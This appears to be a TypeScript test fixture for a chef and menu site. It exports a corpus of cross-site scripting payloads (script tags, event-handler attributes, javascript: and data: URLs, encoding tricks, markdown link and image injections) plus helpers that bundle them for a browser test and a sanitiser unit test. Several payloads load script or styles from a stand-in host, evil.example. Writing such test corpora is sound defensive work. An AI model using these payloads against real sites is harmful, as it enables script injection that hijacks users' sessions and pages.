// Script-injection payloads for texts that others write (chef bios, menu descriptions, FAQ answers, content pages,
// messages, reviews, names): raw HTML, markdown links and images, encodings browsers normalise, and parser
// confusions. Used by the browser check tests/e2e/security-xss.e2e.ts and the sanitiser's unit test
// tests/web/discovery-markdown.test.ts.
export const XSS_CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/ok.png" onerror="alert(1)">',
  '<svg onload=alert(1)><circle r="5"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<div onclick="alert(1)">click</div>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<a href="javascript:alert(1)">js</a>',
  '<a href="JaVaScRiPt:alert(1)">js</a>',
  '<a href=" javascript:alert(1)">js</a>',
  '<a href="java\tscript:alert(1)">js</a>',
  '<a href="java&#x09;script:alert(1)">js</a>',
  '<a href="&#106;avascript:alert(1)">js</a>',
  '<a href="javascript&colon;alert(1)">js</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="//evil.example/">proto-relative</a>',
  '<a href="/\\evil.example/">backslash</a>',
  '<a href="https://ok.example" onmouseover="alert(1)" style="color:red">ok</a>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<a href="https://ok.example"><img src="javascript:alert(1)">img</a>',
  '"><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '</title><script>alert(1)</script>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>m</marquee>',
  '<x contenteditable onfocus=alert(1) autofocus>x</x>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:msgbox(1))',
  '[x](https://ok.example/" onmouseover="alert(1))',
  '![img](javascript:alert(1))',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![img](x" onerror="alert(1))',
  '**bold <img src=x onerror=alert(1)>**',
  '`<script>alert(1)</script>`',
  '```\n<script>alert(1)</script>\n```',
  '> <iframe src=https://evil.example>',
  '- <a href="javascript:alert(1)">item</a>',
  '# <svg onload=alert(1)>',
];

/** A text with every payload, each in its own paragraph, after a visible canary that proves the text was rendered. */
export function payloadText(canary: string, max = Number.POSITIVE_INFINITY): string {
  let out = canary;
  for (const p of XSS_CORPUS) {
    const next = `${out}\n\n${p}`;
    if (next.length > max) break;
    out = next;
  }
  return out;
}

/** The corpus cut into texts of at most `max` characters, each starting with the canary. */
export function payloadChunks(canary: string, max: number): string[] {
  const chunks: string[] = [];
  let current = canary;
  for (const p of XSS_CORPUS) {
    if (`${current}\n\n${p}`.length > max) {
      chunks.push(current);
      current = canary;
    }
    current = `${current}\n\n${p}`;
  }
  chunks.push(current);
  return chunks;
}
